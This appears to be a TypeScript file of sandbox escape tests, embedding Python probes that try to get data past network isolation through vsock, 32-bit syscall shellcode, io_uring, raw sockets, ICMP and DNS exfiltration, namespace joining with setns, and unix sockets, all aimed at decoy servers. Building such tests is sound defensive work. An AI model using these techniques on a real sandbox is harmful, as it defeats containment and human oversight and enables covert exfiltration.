import { proxyProgram } from "../programs/proxy-program.js";
import { nearAtOnceAttack, nearAttack } from "./near.js";
import { programAttack } from "./program-attack.js";

/** Access to the network that a namespace doesn't isolate, or that a privilege opens. */
export const kernelAttacks = [
  programAttack({
    id: "network.deny/vsock",
    stoppedBy: ["system call filter"],
    title: "open a channel to the hypervisor (AF_VSOCK)",
    needs: "vsock in the kernel",
    program: `
def vsock():
    # Opened, not connected: there may be something real at the other end.
    with socket.socket(40, socket.SOCK_STREAM) as channel:
        return "a socket of family %d, which no network namespace isolates" % channel.family
attempt("socket", vsock)`,
  }),
  programAttack({
    id: "network.deny/vsock-foreign-call",
    stoppedBy: ["system call filter"],
    title: "open the same channel with a 32-bit system call",
    needs: "x86-64 with 32-bit system calls",
    program: `
import mmap
def foreign_socket():
    if os.uname().machine != "x86_64":
        raise OSError(errno.ENOSYS, "no such calls here")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; mov eax, 359 (socket); mov ebx, 40; mov ecx, 1; xor edx, edx; int 0x80; pop rbx; ret
    page.write(bytes.fromhex("53b867010000bb28000000b90100000031d2cd805bc3"))
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    result = function()
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return "a socket of family 40"

def in_child(action):
    """The filter may kill the calling process."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(writer, action().encode())
        except OSError as error:
            os._exit(error.errno)
        os._exit(0)
    os.close(writer)
    got = os.read(reader, 4096)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code != 0:
        raise OSError(code if code > 0 else errno.EPERM, "refused or killed")
    return got.decode()
attempt("int 0x80", lambda: in_child(foreign_socket))`,
  }),
  programAttack({
    id: "network.deny/io-uring",
    stoppedBy: ["system call filter"],
    title: "create sockets through io_uring, past the system call filter",
    needs: "io_uring",
    program: `
def ring():
    descriptor = syscall(425, 4, ctypes.create_string_buffer(120))
    os.close(descriptor)
    return "a ring was set up"
attempt("io_uring_setup", ring)`,
  }),
  programAttack({
    id: "network.deny/raw",
    title: "send a hand-made UDP packet through a raw socket",
    needs: "CAP_NET_RAW",
    asRoot: true,
    parameters: ({ decoys }) => decoys.udp,
    program: `
def raw():
    payload = P["nonce"].encode()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as sender:
        sender.sendto(struct.pack(">HHHH", 40000, P["port"], 8 + len(payload), 0) + payload, (P["host"], 0))
    time.sleep(0.2)  # The decoy says whether it arrived.
    return None
attempt("raw", raw)`,
  }),
  programAttack({
    id: "network.deny/icmp",
    title: "send data out in an ICMP echo",
    needs: "CAP_NET_RAW",
    asRoot: true,
    parameters: ({ decoys }) => decoys.udp,
    program: `
def listen():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)

def echo():
    payload = P["nonce"].encode() + b"x" * (len(P["nonce"]) % 2)
    packet = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + payload
    total = sum(struct.unpack(">%dH" % (len(packet) // 2), packet))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    packet = packet[:2] + struct.pack(">H", ~total & 0xFFFF) + packet[4:]
    with listen() as sender:
        sender.sendto(packet, (P["host"], 0))
    # A raw socket is what carries the echo: with one, every host that can be routed to is open.
    links = [name for _, name in socket.if_nameindex() if name != "lo"]
    return "an echo was sent, and there are links (%s)" % ", ".join(links) if links else None
attempt("echo", echo)`,
  }),
  programAttack({
    id: "network.deny/join-namespace",
    title: "join the network namespace of another process and connect from there",
    needs: "CAP_SYS_ADMIN",
    asRoot: true,
    parameters: ({ decoys }) => ({ to: decoys.tcp }),
    program: `
def join():
    found = None
    for path in ["/proc/1/ns/net", "/proc/%d/ns/net" % os.getppid()] + glob.glob("/proc/[0-9]*/ns/net"):
        try:
            descriptor = os.open(path, os.O_RDONLY)
            check(libc.setns(descriptor, 0x40000000))
        except OSError as error:
            found = error
            continue
        with socket.socket() as client:
            client.settimeout(3)
            client.connect((P["to"]["host"], P["to"]["port"]))
            client.send(P["nonce"].encode())
            return leaks(client.recv(4096))
    raise found
attempt("setns", join)`,
  }),
] as const;

/** Sends a request with the nonce to each address, and searches the response for the decoy's secret. */
const ask = String.raw`
def ask(family, kind, address):
    with socket.socket(family, kind) as client:
        client.settimeout(3)
        client.connect(address)
        client.send(("GET / HTTP/1.1\r\nHost: decoy\r\nX-Nonce: %s\r\n\r\n" % P["nonce"]).encode())
        return leaks(client.recv(4096))
`;

const noIpv6 = "the decoys have no IPv6 address";

const socketAttacks = [
  programAttack({
    id: "network.deny/tcp",
    title: "connect to a TCP server of the host",
    parameters: ({ decoys }) => ({ to: decoys.tcp }),
    program: `${ask}
attempt("connect", lambda: ask(socket.AF_INET, socket.SOCK_STREAM, (P["to"]["host"], P["to"]["port"])))`,
  }),
  programAttack({
    id: "network.deny/tcp-other-spellings",
    title: "reach the host's loopback as 0.0.0.0, as 127.1, by name, and as an IPv4-mapped address",
    parameters: ({ decoys }) => ({ to: decoys.tcp, port: decoys.onLoopback.port }),
    program: `${ask}
for host in ("0.0.0.0", "127.1", "localhost"):
    attempt(host, lambda: ask(socket.AF_INET, socket.SOCK_STREAM, (host, P["port"])))
for host, port in (("127.0.0.1", P["port"]), (P["to"]["host"], P["to"]["port"])):
    attempt("mapped", lambda: ask(socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:" + host, port)))`,
  }),
  programAttack({
    id: "network.deny/tcp-ipv6",
    title: "connect to a TCP server of the host over IPv6",
    parameters: ({ decoys }) => decoys.tcp6 ?? noIpv6,
    program: `${ask}
attempt("connect", lambda: ask(socket.AF_INET6, socket.SOCK_STREAM, (P["host"], P["port"])))`,
  }),
  programAttack({
    id: "network.deny/udp",
    title: "send a datagram to a UDP server of the host",
    parameters: ({ decoys }) => decoys.udp,
    program: `${ask}
attempt("send", lambda: ask(socket.AF_INET, socket.SOCK_DGRAM, (P["host"], P["port"])))`,
  }),
  programAttack({
    id: "network.deny/udp-ipv6",
    title: "send a datagram to a UDP server of the host over IPv6",
    parameters: ({ decoys }) => decoys.udp6 ?? noIpv6,
    program: `${ask}
attempt("send", lambda: ask(socket.AF_INET6, socket.SOCK_DGRAM, (P["host"], P["port"])))`,
  }),
  programAttack({
    id: "network.deny/dns",
    title: "send data out in a DNS query",
    parameters: ({ decoys }) => decoys.udp,
    program: String.raw`
def query():
    name = b"".join(bytes([len(label)]) + label for label in (P["nonce"].encode(), b"ambit", b"test"))
    packet = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">HH", 16, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(3)
        client.connect((P["host"], P["port"]))
        client.send(packet)
        return leaks(client.recv(4096))
attempt("query", query)`,
  }),
  programAttack({
    id: "network.deny/unix-path",
    stoppedBy: ["hidden host files"],
    title: "connect to a unix socket of the host by its path",
    parameters: ({ decoys }) => ({ path: decoys.unixPath }),
    program: `${ask}
os.chdir("/tmp")
for path in (P["path"], "/proc/self/root" + P["path"], "/proc/1/root" + P["path"]):
    attempt("connect", lambda: ask(socket.AF_UNIX, socket.SOCK_STREAM, path))`,
  }),
  programAttack({
    id: "network.deny/unix-abstract",
    title: "connect to an abstract unix socket of the host",
    parameters: ({ decoys }) => ({ name: decoys.abstractName }),
    program: `${ask}
# Its listener binds the whole of the address, as many do: the name is padded.
name = b"\\0" + P["name"].encode()
for address in (name, name.ljust(108, b"\\0")):
    attempt("connect", lambda: ask(socket.AF_UNIX, socket.SOCK_STREAM, address))`,
  }),
  programAttack({
    id: "network.deny/detached-child",
    title: "connect from a child that has left its parent, group and session",
    parameters: ({ decoys }) => ({ to: decoys.tcp }),
    program: `${ask}
def from_child():
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                os.write(writer, ask(socket.AF_INET, socket.SOCK_STREAM, (P["to"]["host"], P["to"]["port"])).encode())
            except OSError:
                pass
        os._exit(0)
    os.close(writer)
    return leaks(os.read(reader, 4096))
attempt("child", from_child)`,
  }),
] as const;

/** The run's own channels respond, and lead nowhere else. */
const mediatedAttacks = [
  programAttack({
    id: "network.deny/through-the-proxy",
    stoppedBy: ["allowlist"],
    title: "connect out through every proxy and socket in the sandbox",
    parameters: ({ decoys }) => ({ ...decoys.tcp, name: decoys.place.listedName }),
    program: `${proxyProgram}
attempt_all([P["host"].encode(), P["name"].encode()], P["port"])`,
  }),
] as const;

export const networkDeny = [
  nearAttack("network.deny"),
  nearAtOnceAttack("network.deny"),
  ...socketAttacks,
  ...kernelAttacks,
  ...mediatedAttacks,
] as const;
